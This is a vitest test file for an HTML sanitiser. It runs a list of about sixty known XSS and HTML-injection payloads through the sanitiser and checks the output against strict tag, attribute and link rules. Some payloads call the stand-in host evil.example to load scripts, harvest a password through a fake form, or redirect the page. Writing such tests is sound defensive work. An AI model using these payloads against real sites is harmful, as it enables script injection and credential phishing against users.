import { describe, expect, test } from 'vitest';
import { cleanHtml } from './clean-html.ts';

/** Ways to run code, dress up as the app or leave it, as they are known from many reports. */
const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '</title><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img/src="x"/onerror="alert(1)">',
  '<img srcset="x" onerror=alert(1)>',
  '<image href="x" onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><style><img src="</style><img src=x onerror=alert(1)>"></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">click</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<select><style></select><img src=x onerror=alert(1)></style></select>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  '<div style="position:fixed;inset:0;background:url(javascript:alert(1))">x</div>',
  '<p class="bar" id="main" data-x="1">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="x" onclick="alert(1)" onmouseover=alert(1)>x</a>',
  '<a target="_self" rel="opener" href="https://example.org">x</a>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<dialog open>You are signed out</dialog>',
  '<template><img src=x onerror=alert(1)></template>',
  '<p/onclick=alert(1)>x',
  '<p onclick\n=\n"alert(1)">x</p>',
  '<p title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<b><i onclick=alert(1)>x',
];

const TAGS = new Set(
  'p br hr b strong i em u s small sub sup blockquote pre code div span ul ol li dl dt dd table caption thead tbody tfoot tr th td a h3 h4 h5'.split(
    ' ',
  ),
);
const ATTRIBUTES = new Set(['href', 'rel', 'target', 'start', 'reversed', 'colspan', 'rowspan', 'scope']);

/** Every tag and attribute of what comes out; a `<` that begins none would be a hole of the test itself. */
function partsOf(html: string): { readonly tag: string; readonly attributes: readonly (readonly [string, string])[] }[] {
  const tags = [...html.matchAll(/<\/?([a-z][a-z0-9]*)((?: [a-z]+(?:="[^"<>]*")?)*) ?\/?>/g)];
  expect(html.split('<').length - 1, html).toBe(tags.length);
  return tags.map(([, tag = '', rest = '']) => ({
    tag,
    attributes: [...rest.matchAll(/([a-z]+)="([^"]*)"/g)].map(([, name = '', value = '']) => [name, value] as const),
  }));
}

describe('the organiser’s HTML', () => {
  test.each(PAYLOADS)('is harmless: %s', (payload) => {
    const wrapped = `<p>before</p>${payload}`;
    for (const written of [payload, wrapped, payload.repeat(3)]) {
      for (const { tag, attributes } of partsOf(cleanHtml(written))) {
        expect(TAGS, tag).toContain(tag);
        for (const [name, value] of attributes) {
          expect(ATTRIBUTES, name).toContain(name);
          if (name === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:|tel:|(?!\/\/)[^:]*$)/);
          if (name === 'target') expect(value).toBe('_blank');
          if (name === 'rel') expect(value).toBe('noopener noreferrer nofollow');
        }
      }
    }
  });

  test.each(PAYLOADS)('cleaned twice is cleaned once: %s', (payload) => {
    const once = cleanHtml(payload);
    expect(cleanHtml(once)).toBe(once);
  });

  test('keeps what people write', () => {
    const written = '<h1>News</h1><p>Park at <b>Gate 2</b> &amp; walk.</p><ul><li>Spikes 6&nbsp;mm</li></ul>';
    expect(cleanHtml(written)).toBe('<h3>News</h3><p>Park at <b>Gate 2</b> &amp; walk.</p><ul><li>Spikes 6\u00a0mm</li></ul>');
  });

  test('lets links lead to the web, a mail or a phone, beside the app', () => {
    const link = (href: string) => `<a href="${href}" rel="noopener noreferrer nofollow" target="_blank">x</a>`;
    for (const href of ['https://example.org/a?b=1', 'mailto:a@example.org', 'tel:+441234'])
      expect(cleanHtml(`<a href="${href}">x</a>`)).toBe(link(href));
  });

  test('keeps plain text, and what only looks like a tag', () => {
    expect(cleanHtml('Under 13 < Under 15')).toBe('Under 13 &lt; Under 15');
    expect(cleanHtml('')).toBe('');
  });

  test('ends, however deep somebody nests', () => {
    expect(cleanHtml('<div>'.repeat(20_000)).length).toBeLessThan(2_000);
  });
});
